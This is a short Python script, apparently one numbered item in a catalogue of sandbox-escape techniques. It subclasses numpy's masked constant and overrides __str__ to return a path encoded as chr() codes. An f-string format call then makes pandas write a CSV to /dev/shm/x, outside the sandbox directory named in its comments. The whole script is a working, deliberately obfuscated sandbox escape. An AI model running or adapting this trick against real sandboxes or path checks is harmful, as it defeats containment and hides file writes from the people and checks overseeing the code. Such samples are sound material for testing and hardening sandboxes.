# source: same as 001 (numpy MaskedConstant.__format__ -> object.__format__(self, "") -> __str__)
# family: library __format__ falling back to overridable __str__; class via map(type, ...)
# goal: write a file outside the sandbox dir (/dev/shm/x) with df.to_csv(f"{m:03d}")
import numpy as np
import pandas as pd

Base = next(map(type, [np.ma.masked]))


class M(Base):
    def __str__(self):
        return "".join(map(chr, [47, 100, 101, 118, 47, 115, 104, 109, 47, 120]))


m = M()
df = pd.DataFrame({"a": [1, 2]})
df.to_csv(f"{m:03d}")
print(pd.read_csv(f"{m:03d}").to_string())
print("wrote", f"{m:03d}")
